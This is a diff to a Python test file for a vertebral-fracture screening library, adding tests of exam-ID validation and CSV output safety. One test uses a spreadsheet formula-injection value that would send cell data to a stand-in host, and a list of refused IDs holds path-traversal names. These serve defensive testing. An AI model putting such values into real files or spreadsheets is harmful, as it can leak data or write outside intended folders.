@@ -16,18 +16,21 @@ import math
 import os
 import subprocess
 import sys
+import unicodedata
 from pathlib import Path
 
 import numpy as np
 import pytest
+from test_cohort import touch
 
-from VertebralFractureScreenLib import cohort
+from VertebralFractureScreenLib import cohort, screening
 from VertebralFractureScreenLib import levels as lv
 from VertebralFractureScreenLib import model as fm
 from VertebralFractureScreenLib.cli import main
 from VertebralFractureScreenLib.errors import InputError
 from VertebralFractureScreenLib.features import FEATURE_VERSION, features_from_folder
 from VertebralFractureScreenLib.phantom import Fracture, PhantomSpec, write_phantom
+from VertebralFractureScreenLib.screening import screen_exam
 from VertebralFractureScreenLib.serialization import csv_text, neutralised
 
 FEATURES = ("max_genant_grade", "l1_hu", "age")
@@ -310,10 +313,14 @@ def test_text_cells_that_start_a_formula_are_neutralised_and_numbers_stay_number
 
 
 def test_an_exam_id_that_starts_a_formula_is_neutralised_in_every_table(phantom, tmp_path, capsys):
+    """The command line refuses such an exam ID (it is not a plain name: cohort.checked_exam_id);
+    a library caller may still give one, and every table neutralises it."""
     out = tmp_path / "out"
-    exam_id = '=HYPERLINK("evil.example?"&A1,"click")'  # no '/': an exam ID is a plain name
-    assert main(screen_args(phantom, "--exam-id", exam_id, "--out", str(out))) == 0
-    capsys.readouterr()
+    exam_id = '=HYPERLINK("evil.example?"&A1,"click")'
+    assert main(screen_args(phantom, "--exam-id", exam_id, "--out", str(out))) == 2
+    assert "is not a plain name" in capsys.readouterr().err and not out.exists()
+    screen_exam(phantom["ct"], seg=phantom["total"], levels=lv.parse_level_range("T12-L3"),
+                exam_id=exam_id).write(out, qc=False)
     numbers = 0
     for name in ("vertebrae.csv", "muscles.csv"):
         header, rows = read_rows(out / name)
@@ -383,6 +390,65 @@ def test_a_ct_name_that_is_not_a_plain_name_needs_an_exam_id(phantom, tmp_path, 
     assert main(["screen", str(ct), "--seg", str(phantom["total"]), "--levels", "T12-L3", "--no-qc",
                  "--exam-id", "good"]) == 0
     assert (tmp_path / "good_vfscreen" / "exam.json").is_file()
+
+
+# -- one exam-ID rule for the command line and the cohort ------------------------------------------
+
+GOOD_IDS = ["a", "A1", "CT abdomen", "a b c", "exam-01", "x.y", "p+q", "s_1", "7", "com10", "müller",
+            unicodedata.normalize("NFD", "çelik"),
+            "東京", "नमस्ते", "é" * 100, "a" * 200]
+BAD_IDS = ["", ".", "..", ".hidden", "-a", "_a", "+a", "=1+2", "@x", "a/b", "../up", "/tmp/evil", "a\\b", "a  b", " a",
+           "a ", "a\n", "x\ny", "tab\tx", "del\x7f", "c1\x85x", "a\u200bb", "a:b", "a*b", "a?b", 'a"b', "a<b", "a|b",
+           "x.", "CON", "nul.x", "Lpt1", "a" * 201, "é" * 101, "\udcffx", "\ufffd"]
+
+
+@pytest.mark.parametrize("exam_id, good", [*((i, True) for i in GOOD_IDS), *((i, False) for i in BAD_IDS)],
+                         ids=lambda value: ascii(value)[:24] if isinstance(value, str) else str(value))
+def test_the_cli_and_the_cohort_accept_and_refuse_the_same_exam_ids(tmp_path, capsys, monkeypatch, exam_id, good):
+    """The same ID through ``vfscreen screen --exam-id``, as the CT's name of ``vfscreen screen``
+    without --out, in a manifest, as a file of a folder cohort and in a list of CT files: all
+    accept it (in NFC form) or all refuse it, by the one rule of ``cohort.checked_exam_id``."""
+
+    def reached(ct, **options):  # the ID passed the command line's check: no need to screen
+        raise InputError(f"screening {options['exam_id']!r}")
+
+    monkeypatch.setattr(screening, "screen_exam", reached)
+    normal = unicodedata.normalize("NFC", exam_id)
+    seg = touch(tmp_path / "seg.nii.gz")
+    verdicts = {}
+    assert main(["screen", str(seg), "--seg", str(seg), f"--exam-id={exam_id}", "--out", str(tmp_path / "o")]) == 2
+    err = capsys.readouterr().err
+    verdicts["--exam-id"] = f"screening {normal!r}" in err
+    assert verdicts["--exam-id"] or f"--exam-id {exam_id!r} is not a plain name" in err
+    can_be_a_file = exam_id not in ("", ".", "..") and "/" not in exam_id and not exam_id.startswith(".")
+    if can_be_a_file:
+        ct = touch(tmp_path / "cts" / f"{exam_id}.nii.gz")
+        monkeypatch.chdir(tmp_path)
+        assert main(["screen", str(ct), "--seg", str(seg)]) == 2
+        err = capsys.readouterr().err
+        verdicts["CT name"] = f"screening {normal!r}" in err
+        assert verdicts["CT name"] or "the exam ID from the CT's name" in err
+        folder = tmp_path / "folder"
+        touch(folder / f"{exam_id}.nii.gz")
+        touch(folder / "zz0.nii.gz")  # a second exam: the folder is not refused as a whole
+        exam, = (e for e in cohort.find_exams(folder) if Path(e.ct).name != "zz0.nii.gz")
+        verdicts["folder"] = exam.refused is None
+        assert exam.exam_id == normal if exam.refused is None else "cannot name a folder" in exam.refused
+        try:
+            verdicts["CT list"] = cohort.exams_from_files([ct])[0].exam_id == normal
+        except InputError as error:
+            verdicts["CT list"] = False
+            assert "cannot name a folder" in str(error)
+    if exam_id and exam_id == exam_id.strip() and "\udcff" not in exam_id:  # a manifest's cells are stripped UTF-8
+        manifest = tmp_path / "m.csv"
+        with manifest.open("w", newline="", encoding="utf-8") as handle:
+            csv.writer(handle).writerows([["exam_id", "ct"], [exam_id, "ct.nii.gz"]])
+        try:
+            verdicts["manifest"] = cohort.find_exams(manifest)[0].exam_id == normal
+        except InputError as error:
+            verdicts["manifest"] = False
+            assert "cannot name a folder" in str(error) and len(str(error).splitlines()) == 1
+    assert verdicts == dict.fromkeys(verdicts, good)
 
 
 # -- a reader that closes standard output early ---------------------------------------------------
